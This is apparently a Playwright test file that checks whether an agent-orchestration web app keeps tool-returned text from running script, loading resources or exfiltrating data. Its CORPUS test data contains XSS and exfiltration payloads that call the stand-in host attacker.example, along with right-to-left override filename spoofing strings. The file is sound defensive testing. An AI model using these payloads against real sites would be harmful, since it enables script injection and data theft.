"""What a tool returned cannot act in the page, the page speaks to its own server alone, and no other page can speak for it."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.test_page import status
from tests.integration.server.conftest import Running
from tests.integration.server.test_routes import create, submit, until

pytestmark = pytest.mark.xdist_group("browser")

# Ways in which text has been made to load, run or send something, where it was shown as Markdown or HTML.
CORPUS = """# zebra report
![pixel](http://attacker.example/p.png?secret=1) ![a][b] <img src="http://attacker.example/i.png" onerror="document.title='pwned'">
[click](http://attacker.example/c?d=zebra) [js](javascript:document.title='pwned') [data](data:text/html,<script>alert(1)</script>)
<script>document.title='pwned'</script> <svg onload="document.title='pwned'"></svg> <iframe src="http://attacker.example"></iframe>
<style>@import url(http://attacker.example/s.css); body{background:url(http://attacker.example/b.png)}</style>
<a href="http://attacker.example" ping="http://attacker.example/ping">zebra</a> <form action="http://attacker.example"><input name=x></form>
<link rel=prefetch href="http://attacker.example/l"> <meta http-equiv=refresh content="0;url=http://attacker.example">
[b]: http://attacker.example/ref.png
zebra zebra \u202egnp.exe \u200b zebra
"""


def test_no_text_of_a_document_loads_runs_or_sends_anything(page: Page, demo: Running) -> None:
    """That nothing went elsewhere and no script failed is checked by the fixture of the page."""
    for number in range(3):
        (demo.folder / "documents" / f"zebra {number}.md").write_text(CORPUS, "utf-8")
    page.evaluate("localStorage.setItem('language', 'en')")
    plan = {
        "request": "read zebra",
        "steps": [
            {"id": "find", "tool": "documents.search", "args": {"query": "zebra"}},
            {"id": "read", "tool": "documents.read", "args": {"documents": {"$from": "find.documents[*].id"}}},
            {"id": "sum", "tool": "text.summarise", "args": {"text": CORPUS}},
        ],
        "answer": ["read", "sum", "find"],
    }
    id = submit(demo, plan=plan)["id"]
    until(demo, id, "completed")
    page.goto(f"{demo.address}/orchestrate/{id}?step=read&tab=step")
    status(page, "completed")
    expect(page.locator("[data-inspector=read]")).to_contain_text("attacker.example")
    expect(page.locator("[data-inspector=read]")).to_contain_text("⟪U+202E⟫")
    shown = page.locator("main")
    assert shown.locator("img, iframe, script, style, form, a[href*='attacker'], a[href^='javascript'], link, meta").count() == 0
    assert "pwned" not in page.title()


def test_an_approval_shows_direction_controls_and_invisible_letters(page: Page, demo: Running) -> None:
    plan = create()
    plan["steps"][0]["args"]["title"] = "invoice\u202efdp.exe\u200b"
    id = submit(demo, plan=plan)["id"]
    until(demo, id, "waiting")
    page.goto(f"{demo.address}/orchestrate/{id}")
    expect(page.locator("[data-purpose=approval] .args")).to_contain_text("⟪U+202E⟫")
    expect(page.locator("[data-purpose=approval] .args")).to_contain_text("⟪U+200B⟫")


def test_the_policy_of_the_page_leaves_no_way_for_a_script_of_elsewhere(page: Page) -> None:
    page.goto(page.url)
    policy = page.evaluate("fetch(location.href).then(answer => answer.headers.get('content-security-policy'))")
    assert "unsafe" not in policy
    assert "require-trusted-types-for 'script'" in policy
    refused = page.evaluate(
        """() => {
          try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return false }
          catch (error) { return error instanceof TypeError }
        }"""
    )
    assert refused, "text can become markup"


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """Another site on this machine: cookies do not tell its port from ours."""

    class Quiet(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>elsewhere</title>")

        def log_message(self, *args: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_page_of_another_site_can_neither_act_nor_read_nor_frame(browser: Browser, demo: Running, elsewhere: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(demo.start_link)
    page.locator("#query").wait_for()
    page.goto(elsewhere)
    done = page.evaluate(
        """async (address) => {
          const body = JSON.stringify({ query: "check the system" });
          const ask = (more) => fetch(address + "/api/orchestrate", { credentials: "include", ...more });
          const act = (mode, type) =>
            ask({ method: "POST", mode, headers: { "Content-Type": type }, body }).then((answer) => answer.type, () => "refused");
          const read = await ask({}).then((answer) => answer.json(), () => "refused");
          return [await act("no-cors", "text/plain"), await act("cors", "application/json"), read];
        }""",
        demo.address,
    )
    assert done[1:] == ["refused", "refused"]
    assert demo.client.get("/api/orchestrate").json()["items"] == []
    with page.expect_console_message(lambda message: "frame" in message.text.lower()):
        page.evaluate(
            "address => { const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame) }", demo.address
        )
    context.close()
